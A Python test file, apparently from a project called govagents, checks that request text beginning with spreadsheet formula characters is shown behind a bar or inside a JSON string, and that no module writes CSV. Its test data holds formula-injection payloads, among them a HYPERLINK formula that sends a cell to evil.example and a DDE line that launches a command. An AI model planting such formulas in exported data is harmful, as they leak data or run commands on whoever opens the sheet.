"""Words that want to be a formula in somebody's spreadsheet.

Holds: the right to ask, and so the words of a request. Wants: whoever pastes or exports what the
program shows into a spreadsheet to run a formula, which reads other cells and sends them away.
Does: begins the request, or a line of it, with `=`, `+`, `-`, `@` or a tab.

Nothing here writes a table for spreadsheets; as text each line of theirs stands behind a bar, and
as data it is a string of JSON.

Open: what another program makes of the JSON.
"""

import json

import pytest

from govagents.domain.text import Untrusted
from govagents.entrypoints.cli.output import Screen, shown
from govagents.testing.company import Company
from tests.architecture.sources import modules
from tests.journey.terminal import Terminal

FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
)
TEXT = "\n".join((*FORMULAS, "Redrive the tracking dlq, 2h"))
FIRST = frozenset("=+-@\t")
LOOKS = (("request", "show", "--last"), ("why", "--last"), ("inbox", "--as", "arjun.mehta"))


@pytest.fixture
def terminal(company: Company, capsys: pytest.CaptureFixture[str]) -> Terminal:
    """Of a store in which it was asked so."""
    company.ask("samuel.adeyemi", TEXT)
    return Terminal(company.restarted().home, capsys)


def begun(terminal: Terminal) -> list[str]:
    """Lines that a spreadsheet would take for a formula."""
    lines = [line for words in LOOKS for line in terminal.type(*words).out.splitlines()]
    return [line for line in lines if line[:1] in FIRST]


def test_a_formula_in_a_request_is_contained(terminal: Terminal) -> None:
    """S73: behind a bar, or in a string."""
    assert begun(terminal) == []
    for words in LOOKS[:2]:
        assert json.loads(terminal.type(*words, "--json").out)["words"] == [shown(TEXT)]


def test_a_formula_begins_a_line_without_the_shipped_bar(
    terminal: Terminal, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The harm: copied line by line, each is a cell."""

    def bare(screen: Screen, words: Untrusted) -> None:
        for line in shown(words).split("\n"):
            screen.whole(line)

    monkeypatch.setattr(Screen, "quote", bare)

    assert {line[:1] for line in begun(terminal)} >= {"=", "+", "-", "@"}


def test_a_table_for_spreadsheets_is_refused_a_place() -> None:
    """No module writes one; whoever adds one thinks of this first."""
    writing = [each.path for each in modules("govagents", "tools") if "csv.writer" in each.text]

    assert writing == []
